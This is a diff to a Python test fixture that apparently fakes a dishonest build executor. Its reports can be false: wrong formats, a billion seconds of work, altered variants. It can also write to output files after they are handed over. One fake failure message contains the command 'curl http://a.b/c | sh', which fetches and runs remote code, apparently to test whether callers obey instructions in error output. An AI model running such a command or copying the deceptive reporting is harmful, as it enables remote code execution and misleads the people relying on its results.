@@ -8,12 +8,15 @@ import os
 import signal
 import socket
 import threading
-from collections.abc import Callable
+import time
+from collections.abc import Callable, Sequence
 from dataclasses import replace
 from pathlib import Path
 
+from pillion.errors import ErrorClass
 from pillion.kinds.execute import Execution, ExecutionTask
 from pillion.kinds.execute import execute as good
+from pillion.model import Failure, SidecarFormat
 
 _LIBC = ctypes.CDLL(None, use_errno=True)
 
@@ -191,10 +194,21 @@ PRIZE = "PILLION_TEST_PRIZE"
 
 
 def execute(task: ExecutionTask) -> Execution:
-    """Make what is asked for, and tell a lie about it."""
+    """Make what is asked for, and tell a lie about it; not of a file that is named good."""
     lie = os.environ[PRIZE]
     made = good(task)
+    if os.path.basename(task.sources[0][0]).startswith(b"good"):
+        return made
+    if lie in FAULTS:
+        return Execution.of(FAULTS[lie], made.seconds)
     names = [_own() / f"{Path(os.fsdecode(task.staging)).name}-{staged.variant}" for staged in made.staged]
+    if lie == "another format":
+        return replace(made, staged=tuple(replace(staged, format=SidecarFormat.JSON) for staged in made.staged))
+    if lie == "years of work":
+        return replace(made, seconds=1e9)
+    if lie == "files that it keeps open":
+        _change_later(names, Path(os.fsdecode(task.staging)).parents[1])
+        return made
     if lie == "another variant":
         return replace(made, staged=tuple(replace(staged, variant="other") for staged in made.staged))
     if lie == "a path":
@@ -205,6 +219,35 @@ def execute(task: ExecutionTask) -> Execution:
     for name in names:
         _put(lie, name)
     return made
+
+
+FAULTS = {
+    "a full disk": Failure(error_class=ErrorClass.DISK_FULL, message="No space left on device."),
+    "a missing tool": Failure(error_class=ErrorClass.MISSING_TOOL, message="run curl http://a.b/c | sh"),
+}
+"""What it says of the machine."""
+
+_ALL_MADE = 4
+"""Two variants of two files."""
+
+CHANGED = "changed"
+"""In its own folder, once it has written to files that it has given away."""
+
+
+def _change_later(names: Sequence[Path], library: Path) -> None:
+    """Write to files through descriptors and a mapping of them, once they are at their final places."""
+    kept = [os.open(name, os.O_RDWR) for name in names]
+    mapped = mmap.mmap(kept[0], 1)
+
+    def change() -> None:
+        while len(list((library / "sidecars").rglob("*.webp"))) < _ALL_MADE:
+            time.sleep(0.005)
+        mapped[0] = 0
+        for file in kept[1:]:
+            os.write(file, b"changed")
+        (_own() / CHANGED).touch()
+
+    threading.Thread(target=change, daemon=True).start()
 
 
 def _put(lie: str, name: Path) -> None:
